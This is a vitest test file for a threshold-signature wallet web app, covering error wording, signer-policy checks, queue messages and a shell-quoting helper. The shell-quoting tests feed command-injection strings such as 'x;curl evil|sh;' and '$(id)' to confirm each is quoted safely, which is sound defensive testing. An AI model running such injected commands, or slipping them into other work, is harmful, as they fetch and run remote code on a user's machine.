import { execFileSync } from "node:child_process";

import { describe, expect, it } from "vitest";

import { AppError, explain, friendlyError } from "../../src/lib/errors";
import { describeQueued } from "../../src/lib/progress";
import { checkPolicy, recoveryPossible, recoveryRefusal } from "../../src/lib/policy";
import { shellWord } from "../../src/lib/shell";

// Errors as the SDK throws them: a name, a code, a message, sometimes culprits.
const err = (code: string, message = "", extra: Record<string, unknown> = {}) => Object.assign(new Error(message), { name: "TsskitError", code, ...extra });

describe("friendlyError", () => {
  it("says that a lifecycle operation is under way elsewhere, not that something failed", () => {
    const e = err("already_exists", "a refresh of this wallet is under way");
    for (const during of [undefined, "reshare", "recover"] as const) {
      expect(friendlyError(e, during)).toMatch(/^A refresh, change of policy or recovery of this wallet is already under way/);
    }
    // Another already_exists is not that.
    expect(friendlyError(err("already_exists", "wallet exists"))).toMatch(/code: already_exists/);
  });

  it("tells an overload apart during a reshare or a recovery (after the SDK's retries) from a one-off", () => {
    expect(friendlyError(err("overloaded"))).toBe("The server parties are busy and could not take this now. Try again in a minute.");
    for (const during of ["reshare", "recover"] as const) {
      expect(friendlyError(err("overloaded"), during)).toMatch(/even after a few tries\. Nothing changed/);
    }
  });

  it("explains unavailable by what was asked", () => {
    expect(friendlyError(err("unavailable"))).toMatch(/^Not enough server parties are online right now/);
    expect(friendlyError(err("unavailable"), "reshare")).toMatch(/each holder of the new shares must be a server party/);
    expect(friendlyError(err("unavailable"), "recover")).toMatch(/to hand it over right now\. Nothing changed/);
  });

  it("says which password a recovery wants", () => {
    const wrong = Object.assign(new Error("x"), { name: "WrongPasswordError" });
    expect(friendlyError(wrong)).toBe("Wrong password.");
    expect(friendlyError(wrong, "recover")).toMatch(/earlier recovery attempt of this wallet/);
  });

  it("has a sentence for every recovery refusal the SDK names", () => {
    const codes = ["recovery_refused", "recovery_code", "recovery_wrong_code", "recovery_forged", "recovery_expired", "recovery_other_wallet",
      "recovery_stale", "recovery_other_device", "recovery_no_request", "recovery_malformed"];
    const seen = new Set<string>();
    for (const c of codes) {
      const text = friendlyError(Object.assign(err(c, "x"), { name: "RecoveryError" }), "recover");
      expect(text, c).not.toMatch(/Something went wrong|\(code: /);
      seen.add(text);
    }
    expect(seen.size).toBe(codes.length);
  });

  it("names the address when a recovery would hand over another key", () => {
    const e = err("session_mismatch", "the recovery session hands over the key of address 0x11…, not 0x22…");
    expect(friendlyError(e, "recover")).toMatch(/not the one of the address you gave/);
    expect(friendlyError(e)).toMatch(/^The coordinator offered a session other than the one asked for/);
  });

  it("tells whose share is stale", () => {
    expect(friendlyError(err("stale_epoch", "", { mine: true }))).toMatch(/^This browser's share of the wallet is out of date/);
    expect(friendlyError(err("stale_epoch", "", { culprits: ["server-2"] }))).toMatch(/A server party's share is out of date \(server-2\)/);
  });

  it("says what a settle step needs, in the check's own words, and what a frozen run holds back", () => {
    expect(friendlyError(err("settle_refused", "no valid frozen-run statement for run s-1 from [server-2]: every holder that is not silent freezes it first"))).toBe(
      "Refused, nothing changed: No valid frozen-run statement for run s-1 from [server-2]: every holder that is not silent freezes it first.",
    );
    expect(friendlyError(err("run_frozen", "run s-1 of epoch 3 is frozen here"))).toMatch(/no refresh or change of policy starts until it is thawed or dropped/);
    expect(friendlyError(err("busy"))).toMatch(/in this page or another tab/);
    expect(friendlyError(err("unsupported", "settling a run needs Web Locks"))).toMatch(/served over https/);
  });

  it("keeps an AppError's own words", () => {
    expect(explain(new AppError("Pick a wallet to sign with."))).toBe("Pick a wallet to sign with.");
  });
});

describe("policy", () => {
  it("allows a recovery only when the server parties alone are enough signers", () => {
    expect(recoveryPossible(2, 3)).toBe(true);
    expect(recoveryPossible(3, 4)).toBe(true);
    expect(recoveryPossible(3, 3)).toBe(false);
    expect(recoveryPossible(2, 2)).toBe(false);
    expect(recoveryRefusal(2, 3)).toBe("");
    expect(recoveryRefusal(3, 3)).toMatch(/^A recovery needs 3 server parties .* 3-of-3 has 2\./);
  });

  it("refuses a policy the coordinator refuses", () => {
    expect(checkPolicy(2, 3)).toBe("");
    expect(checkPolicy(1, 3)).toMatch(/At least 2 signers/);
    expect(checkPolicy(2, 6)).toMatch(/2 to 5 parties/);
    expect(checkPolicy(4, 3)).toMatch(/cannot be needed/);
  });
});

describe("shellWord", () => {
  it("leaves plain words alone and quotes the rest, so a pasted command runs what it shows", () => {
    expect(shellWord("1c8bc7e9-f02c-41ac-a637-fe529153242c")).toBe("1c8bc7e9-f02c-41ac-a637-fe529153242c");
    expect(shellWord("browser-fa5f")).toBe("browser-fa5f");
    // A wallet id from a lying coordinator.
    expect(shellWord("x;curl evil|sh;")).toBe("'x;curl evil|sh;'");
    expect(shellWord("x --out ~/.bashrc")).toBe("'x --out ~/.bashrc'");
    expect(shellWord("$(id)")).toBe("'$(id)'");
    expect(shellWord("it's")).toBe(`'it'\\''s'`);
    expect(shellWord("")).toBe("''");
    // And a real shell reads each back as the one word it was.
    for (const w of ["x;curl evil|sh;", "x --out ~/.bashrc", "$(id) `id` \\ \"q\"", "it's", "a\nb", ""]) {
      expect(execFileSync("sh", ["-c", `printf '%s' ${shellWord(w)}`], { encoding: "utf8" })).toBe(w);
    }
  });
});

describe("describeQueued", () => {
  it("says a session waits its turn, and where", () => {
    expect(describeQueued(undefined)).toBe("");
    expect(describeQueued({ position: 1, parties: ["server-2"] })).toBe("A server party is busy with other sessions; this one is next in line.");
    expect(describeQueued({ position: 3, parties: ["server-1", "server-2"] })).toBe("2 server parties are busy with other sessions; this one is number 3 in line.");
  });
});
